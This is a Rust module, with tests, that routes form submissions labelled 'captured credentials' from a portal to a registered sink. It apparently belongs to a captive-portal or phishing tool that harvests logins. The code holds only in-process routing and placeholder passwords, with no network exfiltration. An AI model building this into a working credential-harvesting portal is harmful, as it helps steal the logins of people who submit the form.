//! Captured credential delivery
//!
//! The portal surface hands each form submission to the
//! [`CredentialRouter`], which passes it straight to the registered sink.
//! Nothing is buffered: with no sink set the event is dropped.

use chrono::{DateTime, Utc};
use parking_lot::RwLock;
use serde::Serialize;
use std::collections::BTreeMap;
use std::sync::Arc;
use tracing::{debug, info};

/// One portal submission
#[derive(Debug, Clone, PartialEq, Eq, Serialize)]
pub struct CredentialEvent {
    /// Submitted form fields, as received
    pub fields: BTreeMap<String, String>,
    pub received_at: DateTime<Utc>,
}

impl CredentialEvent {
    pub fn new(fields: BTreeMap<String, String>) -> Self {
        Self {
            fields,
            received_at: Utc::now(),
        }
    }

    /// Build an event from `(key, value)` pairs
    pub fn from_pairs<I, K, V>(pairs: I) -> Self
    where
        I: IntoIterator<Item = (K, V)>,
        K: Into<String>,
        V: Into<String>,
    {
        Self::new(
            pairs
                .into_iter()
                .map(|(k, v)| (k.into(), v.into()))
                .collect(),
        )
    }

    pub fn get(&self, key: &str) -> Option<&str> {
        self.fields.get(key).map(String::as_str)
    }
}

/// Receiver of captured credentials
pub trait CredentialSink: Send + Sync {
    fn deliver(&self, event: CredentialEvent);
}

impl<F> CredentialSink for F
where
    F: Fn(CredentialEvent) + Send + Sync,
{
    fn deliver(&self, event: CredentialEvent) {
        self(event)
    }
}

/// Routes credential events to at most one sink
#[derive(Default)]
pub struct CredentialRouter {
    sink: RwLock<Option<Arc<dyn CredentialSink>>>,
}

impl CredentialRouter {
    pub fn new() -> Self {
        Self::default()
    }

    /// Register `sink`, replacing any previous one
    pub fn set_sink(&self, sink: Arc<dyn CredentialSink>) {
        let replaced = self.sink.write().replace(sink).is_some();
        info!(replaced, "Credential sink registered");
    }

    /// Unregister the current sink
    pub fn clear_sink(&self) {
        self.sink.write().take();
    }

    pub fn has_sink(&self) -> bool {
        self.sink.read().is_some()
    }

    /// Hand `event` to the current sink; returns whether it was delivered
    pub fn deliver(&self, event: CredentialEvent) -> bool {
        // The sink runs outside the lock so it may re-register itself
        let sink = self.sink.read().clone();
        match sink {
            Some(sink) => {
                debug!(fields = event.fields.len(), "Delivering credential event");
                sink.deliver(event);
                true
            }
            None => {
                debug!("No credential sink registered, dropping event");
                false
            }
        }
    }
}

#[cfg(test)]
mod tests {
    use super::*;
    use parking_lot::Mutex;

    fn collector() -> (Arc<Mutex<Vec<CredentialEvent>>>, Arc<dyn CredentialSink>) {
        let seen = Arc::new(Mutex::new(Vec::new()));
        let sink_seen = seen.clone();
        let sink: Arc<dyn CredentialSink> =
            Arc::new(move |event: CredentialEvent| sink_seen.lock().push(event));
        (seen, sink)
    }

    #[test]
    fn test_deliver_without_sink_drops() {
        let router = CredentialRouter::new();
        assert!(!router.has_sink());
        assert!(!router.deliver(CredentialEvent::from_pairs([("password", "hunter22")])));
    }

    #[test]
    fn test_deliver_to_sink() {
        let router = CredentialRouter::new();
        let (seen, sink) = collector();
        router.set_sink(sink);

        let event = CredentialEvent::from_pairs([("email", "alice@example.com"), ("password", "pw")]);
        assert!(router.deliver(event.clone()));

        let seen = seen.lock();
        assert_eq!(seen.len(), 1);
        assert_eq!(seen[0], event);
        assert_eq!(seen[0].get("email"), Some("alice@example.com"));
    }

    #[test]
    fn test_set_sink_replaces_previous() {
        let router = CredentialRouter::new();
        let (first, first_sink) = collector();
        let (second, second_sink) = collector();

        router.set_sink(first_sink);
        router.set_sink(second_sink);
        router.deliver(CredentialEvent::from_pairs([("user", "bob")]));

        assert!(first.lock().is_empty());
        assert_eq!(second.lock().len(), 1);
    }

    #[test]
    fn test_clear_sink() {
        let router = CredentialRouter::new();
        let (seen, sink) = collector();
        router.set_sink(sink);
        router.clear_sink();

        assert!(!router.deliver(CredentialEvent::from_pairs([("user", "bob")])));
        assert!(seen.lock().is_empty());
    }

    #[test]
    fn test_event_serializes_fields() {
        let event = CredentialEvent::from_pairs([("password", "secret123")]);
        let json = serde_json::to_value(&event).unwrap();
        assert_eq!(json["fields"]["password"], "secret123");
        assert!(json["received_at"].is_string());
    }
}
